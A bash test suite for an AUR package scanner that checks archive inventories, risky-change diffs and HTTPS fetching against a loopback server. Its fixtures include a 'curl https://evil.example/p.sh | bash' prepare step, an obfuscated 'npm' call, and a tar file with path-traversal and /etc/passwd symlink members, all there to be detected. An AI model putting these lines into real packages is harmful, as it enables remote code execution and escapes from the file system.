# test_aur.sh - issue 20: archive snapshots as scan targets, prc diff, prc aur fetch / scan --aur.
# Archives are made here with tar (and python3's tarfile for members tar cannot make unprivileged).

# valid_result: $OUT validates against schemas/run-result.schema.json.
valid_result() {
        printf '%s' "$OUT" >"$TMP/result.json"
        /usr/bin/python3 - "$PRC_ROOT/schemas/run-result.schema.json" "$TMP/result.json" <<'PY' || fail "schema"
import json, sys, jsonschema
schema = json.load(open(sys.argv[1]))
jsonschema.Draft202012Validator(schema).validate(json.load(open(sys.argv[2])))
PY
}

# A package directory NAME under $TMP with a PKGBUILD and .SRCINFO.
mkpkg() {
        mkdir -p "$TMP/$1"
        cat >"$TMP/$1/PKGBUILD" <<'EOF'
pkgname=demo
pkgver=1.0
pkgrel=1
arch=(any)
url="https://example.org/demo"
source=("https://example.org/demo-$pkgver.tar.gz")
sha256sums=('0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef')
package() {
  install -Dm644 demo "$pkgdir/usr/share/demo"
}
EOF
        printf 'pkgbase = demo\n\tpkgver = 1.0\n\tpkgrel = 1\n\turl = https://example.org/demo\n\tarch = any\n\tsource = https://example.org/demo-1.0.tar.gz\n\tsha256sums = 0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\n\npkgname = demo\n' >"$TMP/$1/.SRCINFO"
}

t_archive_target_has_the_directory_inventory_and_records_the_archive() {
        mkpkg demo
        tar -C "$TMP" -czf "$TMP/demo.tar.gz" demo
        run "$PRC" scan --target "$TMP/demo" --format json
        local dir_digest
        dir_digest=$(json_get target.inventory_digest)
        run "$PRC" scan --target "$TMP/demo.tar.gz" --format json
        expect_rc 1
        expect_eq "$(json_get target.inventory_digest)" "$dir_digest"
        expect_eq "$(json_get target.archive.sha256)" "$(sha256sum "$TMP/demo.tar.gz" | cut -d' ' -f1)"
        expect_eq "$(json_get target.archive.format)" "tar.gz"
        expect_eq "$(json_get target.archive.root)" "demo"
        expect_eq "$(json_get target.archive.rejected)" "[]"
        valid_result
        expect_eq "$(json_get target.files)" "2"
        # The members were read through the worker: both manifests parsed, no gap.
        expect_eq "$(json_get assertions.3.id)" "PRC-A-CORE-004"
        expect_eq "$(json_get assertions.3.state)" "Pass"
        expect_eq "$(json_get coverage_gaps)" "[]"
        # No host path in the result.
        grep -qF -- "$TMP" <<<"$OUT" && fail "the result holds the host path"
        return 0
}

t_tar_tgz_and_tar_zst_give_the_same_inventory() {
        mkpkg demo
        tar -C "$TMP" -cf "$TMP/demo.tar" demo
        tar -C "$TMP" -czf "$TMP/demo.tgz" demo
        tar -C "$TMP" --zstd -cf "$TMP/demo.tar.zst" demo
        local want="" f d
        for f in demo.tar demo.tgz demo.tar.zst; do
                run "$PRC" scan --target "$TMP/$f" --format json
                expect_rc 1
                d=$(json_get target.inventory_digest)
                [ -z "$want" ] && want=$d
                expect_eq "$d" "$want"
        done
        run "$PRC" scan --target "$TMP/demo.tar.zst" --format json
        expect_eq "$(json_get target.archive.format)" "tar.zst"
}

t_archive_without_a_single_top_directory_is_scanned_from_its_root() {
        mkpkg demo
        tar -C "$TMP/demo" -czf "$TMP/flat.tar.gz" PKGBUILD .SRCINFO
        run "$PRC" scan --target "$TMP/flat.tar.gz" --format json
        expect_rc 1
        expect_eq "$(json_get target.files)" "2"
        python3 -c 'import json,sys; d=json.load(sys.stdin); sys.exit("root" in d["target"]["archive"])' <<<"$OUT" ||
                fail "a flat archive has no package root"
}

t_rejected_members_are_named_and_make_whole_tree_assertions_unknown() {
        python3 - "$TMP/evil.tar" <<'EOF'
import io, sys, tarfile
t = tarfile.open(sys.argv[1], "w")
def add(name, data=b"", kind=tarfile.REGTYPE, link=""):
    ti = tarfile.TarInfo(name); ti.type = kind; ti.linkname = link; ti.mode = 0o644
    ti.size = len(data) if kind == tarfile.REGTYPE else 0
    t.addfile(ti, io.BytesIO(data) if kind == tarfile.REGTYPE else None)
add("pkg/", kind=tarfile.DIRTYPE)
add("pkg/PKGBUILD", b"pkgname=x\npkgver=1\npkgrel=1\narch=(any)\n")
add("pkg/../../etc/evil", b"x")
add("pkg/passwd", kind=tarfile.SYMTYPE, link="/etc/passwd")
add("pkg/up", kind=tarfile.SYMTYPE, link="../../x")
add("pkg/dev", kind=tarfile.CHRTYPE)
t.close()
EOF
        run "$PRC" scan --target "$TMP/evil.tar" --format json
        expect_rc 1
        expect_out '"class":"path-dotdot"'
        expect_out '"path":"pkg/../../etc/evil"'
        expect_out '"class":"archive-link-escape"'
        expect_out '"class":"archive-special"'
        valid_result
        expect_eq "$(json_get target.unrepresentable)" "4"
        local i
        for i in 3 4 5; do
                expect_eq "$(json_get assertions.$i.state)" "Unknown"
        done
        run "$PRC" scan --target "$TMP/evil.tar"
        expect_out "4 rejected"
        # Issue 22: the text view groups the gaps by class, each path under its class.
        grep -A4 '^  archive-special (1)$' <<<"$OUT" | grep -q '^    pkg/dev: ' || fail "pkg/dev not under archive-special"
}

t_archive_target_works_for_every_profile() {
        mkpkg demo
        tar -C "$TMP" -czf "$TMP/demo.tar.gz" demo
        local p
        for p in $(awk '/^profiles:/{on=1} on && /- id: /{print $3}' catalog/catalog.yaml); do
                run "$PRC" scan --target "$TMP/demo.tar.gz" --profile "$p" --format json
                [ "$RC" -le 1 ] || fail "profile $p: exit $RC ($ERR)"
                expect_eq "$(json_get profile)" "$p"
                expect_eq "$(json_get target.archive.root)" "demo"
        done
}

t_a_file_that_is_not_an_archive_is_a_named_refusal() {
        head -c 2048 /dev/zero | tr '\0' 'a' >"$TMP/README"
        run "$PRC" scan --target "$TMP/README"
        expect_rc 3
        expect_err "archive-format"
        expect_err "$TMP/README"
        printf 'hello\n' >"$TMP/short"
        run "$PRC" scan --target "$TMP/short"
        expect_rc 3
        expect_err "archive-truncated"
        head -c 11000000 /dev/zero >"$TMP/big.tar"
        run "$PRC" scan --target "$TMP/big.tar"
        expect_rc 3
        expect_err "input-too-large"
}

t_every_real_aur_package_scans_as_a_snapshot_archive() {
        local corp=${PRC_CORPORA:-$PRC_ROOT/../shared/corpora}/aur
        if [ ! -d "$corp" ]; then
                echo "    ../shared/corpora/aur is absent: the corpus sweep did not run" >&2
                [ "${CI:-}" = "true" ] && return 1
                return 0
        fi
        local d n=0 bad=0 work="$TMP/pkgs"
        mkdir -p "$work"
        while IFS= read -r d; do
                local name
                name=$(basename "$d")
                # A snapshot shaped like the AUR's: NAME/ holding the package files (copied: the corpus is read-only).
                rm -rf "${work:?}/$name" && cp -r "$d" "$work/$name" && chmod -R u+w "$work/$name"
                tar -C "$work" -czf "$work/$name.tar.gz" "$name"
                OUT=$("$PRC" scan --target "$work/$name.tar.gz" --format json 2>"$TMP/err") && RC=0 || RC=$?
                if [ "$RC" -gt 1 ] || ! grep -q '"archive":{' <<<"$OUT"; then
                        echo "    $name: exit $RC $(head -c 300 "$TMP/err")" >&2
                        bad=$((bad + 1))
                fi
                n=$((n + 1))
                rm -rf "${work:?}/$name" "$work/$name.tar.gz"
        done < <(cut -f3 "$corp/INDEX.tsv" | tail -n +2 | sed "s|^|$corp/|")
        echo "    scanned $n AUR snapshot archives, $bad failed" >&2
        [ "$n" -ge 400 ] || fail "only $n packages"
        [ "$bad" -eq 0 ]
}

# ---- prc diff ----

t_diff_of_identical_versions_is_clean() {
        mkpkg a
        run "$PRC" diff "$TMP/a" "$TMP/a"
        expect_rc 0
        expect_out "0 changes, 0 risky"
}

t_diff_flags_every_risky_change_kind() {
        mkpkg old
        mkpkg new
        cat >"$TMP/new/PKGBUILD" <<'EOF'
pkgname=demo
pkgver=1.1
pkgrel=1
arch=(any)
url="https://github.com/someone-else/demo"
source=("https://example.org/demo-$pkgver.tar.gz" "https://dl.evil.example/helper.bin")
sha256sums=('SKIP' 'SKIP')
install=demo.install
prepare() {
  curl -fsSL https://evil.example/p.sh | bash
  'n''p''m' install left-pad
}
package() {
  install -Dm644 demo "$pkgdir/usr/share/demo"
}
EOF
        printf 'post_install() {\n  systemctl enable --now demo-agent\n}\n' >"$TMP/new/demo.install"
        rm "$TMP/new/.SRCINFO"
        run "$PRC" diff "$TMP/old" "$TMP/new"
        expect_rc 1
        local k
        for k in url-changed source-host-added checksum-skip network-added exec-added package-manager-added \
                 install-script-added install-hook-added version-changed; do
                expect_out "$k"
        done
        expect_out "PKGBUILD:10"
        run "$PRC" diff "$TMP/old" "$TMP/new" --format json
        expect_rc 1
        expect_eq "$(json_get schema)" "prc.diff/v1"
        python3 -c 'import json,sys; d=json.load(sys.stdin); assert d["risky"] >= 8, d["risky"]' <<<"$OUT"
}

t_diff_removed_checksums_and_snapshot_archives() {
        mkpkg old
        mkpkg new
        sed -i '/^sha256sums=/d' "$TMP/new/PKGBUILD"
        sed -i '/sha256sums/d' "$TMP/new/.SRCINFO"
        tar -C "$TMP" -czf "$TMP/old.tar.gz" old
        tar -C "$TMP" --zstd -cf "$TMP/new.tar.zst" new
        run "$PRC" diff "$TMP/old.tar.gz" "$TMP/new.tar.zst" --format json
        expect_rc 1
        expect_out '"kind":"checksum-removed"'
        expect_eq "$(json_get old.archive.root)" "old"
        expect_eq "$(json_get new.archive.format)" "tar.zst"
}

t_diff_unparseable_new_version_is_risky_never_clean() {
        mkpkg old
        mkdir -p "$TMP/new"
        printf 'pkgname=x\nfoo() {\n' >"$TMP/new/PKGBUILD"
        run "$PRC" diff "$TMP/old" "$TMP/new"
        expect_rc 1
        expect_out "unanalyzed"
        rm "$TMP/new/PKGBUILD"
        run "$PRC" diff "$TMP/old" "$TMP/new"
        expect_rc 1
        expect_out "no PKGBUILD"
}

t_diff_usage_and_unreadable_versions() {
        run "$PRC" diff "$TMP"
        expect_rc 2
        head -c 2048 /dev/zero | tr '\0' 'a' >"$TMP/x.tar.gz"
        mkpkg a
        run "$PRC" diff "$TMP/a" "$TMP/x.tar.gz"
        expect_rc 3
        expect_err "archive-format"
}

# ---- prc aur fetch and prc scan --aur, against a loopback HTTPS server started per test ----

# aur_start: a test CA, a certificate for 127.0.0.1 and one for another name, and one server each,
# serving $TMP/srv; sets AUR_URL, AUR_OTHER_URL, AUR_CA and AUR_LOG.  Nothing but 127.0.0.1 is reached.
AUR_PIDS=()
aur_start() {
        # shellcheck disable=SC1091
        source "$PRC_ROOT/tests/cli/https_lib.sh"
        local d=$TMP/tls n i
        mkdir -p "$d" "$TMP/srv"
        openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout "$d/ca.key" \
                -out "$d/ca.pem" -days 2 -subj "/CN=prc aur test CA" \
                -addext "basicConstraints=critical,CA:TRUE" -addext "keyUsage=critical,keyCertSign,cRLSign" \
                2>/dev/null || fail "openssl cannot make the test CA"
        https_cert "$d" good "IP:127.0.0.1" && https_cert "$d" other "DNS:other.invalid" ||
                fail "openssl cannot make the server certificates"
        AUR_LOG=$TMP/requests.log
        : >"$AUR_LOG"
        for n in good other; do
                /usr/bin/python3 "$PRC_ROOT/tests/cli/aur_server.py" "$d/$n.pem" "$d/$n.key" "$TMP/srv" "$AUR_LOG" \
                        "$d/$n.port" </dev/null >"$d/$n.log" 2>&1 &
                AUR_PIDS+=("$!")
        done
        for i in $(seq 100); do
                [ -s "$d/good.port" ] && [ -s "$d/other.port" ] && break
                sleep 0.1
        done
        [ -s "$d/good.port" ] && [ -s "$d/other.port" ] || fail "the loopback HTTPS server did not start"
        AUR_CA=$d/ca.pem
        AUR_URL=https://127.0.0.1:$(cat "$d/good.port")
        AUR_OTHER_URL=https://127.0.0.1:$(cat "$d/other.port")
        trap 'aur_stop' EXIT
}
aur_stop() {
        local p
        for p in "${AUR_PIDS[@]}"; do
                kill "$p" 2>/dev/null
        done
        AUR_PIDS=()
}

t_aur_fetch_stores_the_snapshot_and_says_where_it_came_from() {
        aur_start
        mkpkg demo
        tar -C "$TMP" -czf "$TMP/srv/demo.tar.gz" demo
        run "$PRC" aur fetch demo --aur-url "$AUR_URL/" --cacert "$AUR_CA" --out "$TMP/got.tar.gz" --format json
        expect_rc 0
        cmp "$TMP/got.tar.gz" "$TMP/srv/demo.tar.gz" || fail "the stored archive differs"
        expect_eq "$(json_get url)" "$AUR_URL/cgit/aur.git/snapshot/demo.tar.gz"
        expect_eq "$(json_get sha256)" "$(sha256sum "$TMP/srv/demo.tar.gz" | cut -d' ' -f1)"
        expect_eq "$(json_get package)" "demo"
        # Default output name in the working directory.
        (cd "$TMP" && "$PRC" aur fetch demo --aur-url "$AUR_URL" --cacert "$AUR_CA" >/dev/null) || fail "fetch failed"
        cmp "$TMP/demo.tar.gz" "$TMP/srv/demo.tar.gz" || fail "./demo.tar.gz differs"
}

t_aur_scan_fetches_and_records_package_url_and_digest() {
        aur_start
        mkpkg demo
        tar -C "$TMP" -czf "$TMP/srv/demo.tar.gz" demo
        run "$PRC" scan --aur demo --aur-url "$AUR_URL" --cacert "$AUR_CA" --format json
        expect_rc 1
        expect_eq "$(json_get target.aur.package)" "demo"
        valid_result
        expect_eq "$(json_get target.aur.url)" "$AUR_URL/cgit/aur.git/snapshot/demo.tar.gz"
        expect_eq "$(json_get target.archive.sha256)" "$(sha256sum "$TMP/srv/demo.tar.gz" | cut -d' ' -f1)"
        expect_eq "$(json_get target.archive.root)" "demo"
        run "$PRC" scan --target "$TMP/demo" --format json
        local d
        d=$(json_get target.inventory_digest)
        run "$PRC" scan --aur demo --aur-url "$AUR_URL" --cacert "$AUR_CA" --format json
        expect_eq "$(json_get target.inventory_digest)" "$d"
        run "$PRC" scan --aur demo --aur-url "$AUR_URL" --cacert "$AUR_CA"
        expect_out "AUR package demo from $AUR_URL/cgit/aur.git/snapshot/demo.tar.gz"
}

t_aur_bad_names_are_refused_before_any_request() {
        aur_start
        local n
        for n in 'Demo' '-x' '.hidden' 'a/b' '../etc' 'a b' 'x?y=1' '' "$(printf 'a%.0s' $(seq 201))"; do
                run "$PRC" aur fetch --aur-url "$AUR_URL" --cacert "$AUR_CA" --out "$TMP/x.tar.gz" -- "$n"
                expect_rc 2
                expect_err "aur-name-invalid"
                run "$PRC" scan --aur "$n" --aur-url "$AUR_URL" --cacert "$AUR_CA"
                expect_rc 2
                expect_err "aur-name-invalid"
        done
        [ ! -s "$AUR_LOG" ] || fail "a refused name reached the server: $(cat "$AUR_LOG")"
        [ ! -e "$TMP/x.tar.gz" ] || fail "a refused name stored a file"
        run "$PRC" aur fetch 'lib32-gcc-libs+x@2.0_1' --aur-url "http://127.0.0.1:1" --out "$TMP/x.tar.gz"
        expect_rc 2
        expect_err "aur-url-invalid"
}

t_aur_oversize_404_and_wrong_certificate_are_named_and_store_nothing() {
        aur_start
        run "$PRC" aur fetch huge --aur-url "$AUR_URL" --cacert "$AUR_CA" --out "$TMP/x.tar.gz"
        expect_rc 3
        expect_err "https-size-cap"
        run "$PRC" aur fetch missing --aur-url "$AUR_URL" --cacert "$AUR_CA" --out "$TMP/x.tar.gz"
        expect_rc 3
        expect_err "https-status"
        mkpkg demo
        tar -C "$TMP" -czf "$TMP/srv/demo.tar.gz" demo
        # A certificate for another name, and a server certificate without the test CA.
        run "$PRC" aur fetch demo --aur-url "$AUR_OTHER_URL" --cacert "$AUR_CA" --out "$TMP/x.tar.gz"
        expect_rc 3
        expect_err "https-tls-failed"
        run "$PRC" aur fetch demo --aur-url "$AUR_URL" --out "$TMP/x.tar.gz"
        expect_rc 3
        expect_err "https-tls-failed"
        run "$PRC" scan --aur demo --aur-url "$AUR_OTHER_URL" --cacert "$AUR_CA"
        expect_rc 3
        expect_err "https-tls-failed"
        [ ! -e "$TMP/x.tar.gz" ] || fail "a failed fetch stored a file"
        ls "$TMP"/x.tar.gz.prc-* >/dev/null 2>&1 && fail "a temporary file was left" || true
}

# ---- prc diff aur:NAME[@COMMIT]: both versions fetched from the loopback server ----

C_OLD=0123456789abcdef0123456789abcdef01234567
C_NEW=89abcdef01234567

# aur_commit DIR COMMIT: $TMP/srv/COMMIT.tar.gz as cgit makes it (its top directory is the file's name).
aur_commit() {
        rm -rf "$TMP/pack" && mkdir -p "$TMP/pack" && cp -a "$TMP/$1" "$TMP/pack/$2"
        tar -C "$TMP/pack" -czf "$TMP/srv/$2.tar.gz" "$2"
}

t_diff_of_two_fetched_commits_records_urls_and_digests() {
        aur_start
        mkpkg old
        mkpkg new
        sed -i 's|^package() {|prepare() {\n  curl -fsSL https://evil.example/p.sh \| bash\n}\npackage() {|' \
                "$TMP/new/PKGBUILD"
        aur_commit old "$C_OLD"
        aur_commit new "$C_NEW"
        run "$PRC" diff "aur:demo@$C_OLD" "aur:demo@$C_NEW" --aur-url "$AUR_URL" --cacert "$AUR_CA" --format json
        expect_rc 1
        expect_out '"kind":"network-added"'
        expect_out '"kind":"exec-added"'
        expect_eq "$(json_get old.aur.package)" "demo"
        expect_eq "$(json_get old.aur.commit)" "$C_OLD"
        expect_eq "$(json_get old.aur.url)" "$AUR_URL/cgit/aur.git/snapshot/$C_OLD.tar.gz"
        expect_eq "$(json_get old.archive.sha256)" "$(sha256sum "$TMP/srv/$C_OLD.tar.gz" | cut -d' ' -f1)"
        expect_eq "$(json_get new.aur.url)" "$AUR_URL/cgit/aur.git/snapshot/$C_NEW.tar.gz"
        expect_eq "$(json_get new.archive.sha256)" "$(sha256sum "$TMP/srv/$C_NEW.tar.gz" | cut -d' ' -f1)"
        expect_eq "$(json_get new.archive.root)" "$C_NEW"
        # The fetched snapshot has the directory's inventory.
        run "$PRC" scan --target "$TMP/new" --format json
        local d
        d=$(json_get target.inventory_digest)
        run "$PRC" diff "aur:demo@$C_OLD" "aur:demo@$C_NEW" --aur-url "$AUR_URL" --cacert "$AUR_CA" --format json
        expect_eq "$(json_get new.inventory_digest)" "$d"
        expect_eq "$(printf '%s\n' "$(cat "$AUR_LOG")")" \
                "$(printf '/cgit/aur.git/snapshot/%s.tar.gz\n' "$C_OLD" "$C_NEW" "$C_OLD" "$C_NEW")"
        run "$PRC" diff "aur:demo@$C_OLD" "aur:demo@$C_NEW" --aur-url "$AUR_URL" --cacert "$AUR_CA"
        expect_rc 1
        expect_out "new: AUR package demo@$C_NEW from $AUR_URL/cgit/aur.git/snapshot/$C_NEW.tar.gz, sha256"
        expect_out "RISKY  network-added"
        # aur:NAME is the current snapshot; it mixes with a local directory; identical versions are clean.
        tar -C "$TMP" -czf "$TMP/srv/demo.tar.gz" old
        run "$PRC" diff "$TMP/old" aur:demo --aur-url "$AUR_URL" --cacert "$AUR_CA" --format json
        expect_rc 0
        expect_eq "$(json_get new.aur.url)" "$AUR_URL/cgit/aur.git/snapshot/demo.tar.gz"
        python3 -c 'import json,sys; d=json.load(sys.stdin)
sys.exit("commit" in d["new"]["aur"] or "aur" in d["old"])' <<<"$OUT" ||
                fail "a current snapshot records a commit, or a directory records a URL"
}

t_diff_bad_aur_versions_are_refused_before_any_request() {
        aur_start
        local c
        for c in XYZ abc12 0123456 "${C_OLD}8" ABCDEF0 'abcdef0/../x' 'abcdef0?h=x' '' 'abcdef0 '; do
                run "$PRC" diff "aur:demo@$C_OLD" "aur:demo@$c" --aur-url "$AUR_URL" --cacert "$AUR_CA"
                if [ "$c" = 0123456 ]; then
                        # Valid syntax: the server is asked (and has no such commit).
                        expect_rc 3
                        : >"$AUR_LOG"
                        continue
                fi
                expect_rc 2
                expect_err "aur-commit-invalid"
                expect_err "aur:demo@$c"
        done
        for c in 'aur:Demo' 'aur:' 'aur:-x@abcdef0' 'aur:a/b@abcdef0' 'aur:@abcdef0'; do
                run "$PRC" diff "aur:demo@$C_OLD" "$c" --aur-url "$AUR_URL" --cacert "$AUR_CA"
                expect_rc 2
                expect_err "aur-name-invalid"
        done
        [ ! -s "$AUR_LOG" ] || fail "a refused version reached the server: $(cat "$AUR_LOG")"
        run "$PRC" diff aur:demo aur:demo --aur-url "http://127.0.0.1:1"
        expect_rc 2
        expect_err "aur-url-invalid"
        mkpkg a
        run "$PRC" diff "$TMP/a" "$TMP/a" --aur-url "$AUR_URL"
        expect_rc 2
        expect_err "go with an aur:NAME"
}

t_diff_one_fetched_version_missing_is_a_named_failure() {
        aur_start
        mkpkg old
        aur_commit old "$C_OLD"
        run "$PRC" diff "aur:demo@$C_OLD" "aur:demo@$C_NEW" --aur-url "$AUR_URL" --cacert "$AUR_CA" --format json
        expect_rc 3
        expect_err "https-status"
        expect_err "aur:demo@$C_NEW"
        expect_eq "$OUT" ""
        run "$PRC" diff "aur:demo@$C_OLD" "aur:demo@$C_OLD" --aur-url "$AUR_OTHER_URL" --cacert "$AUR_CA"
        expect_rc 3
        expect_err "https-tls-failed"
}
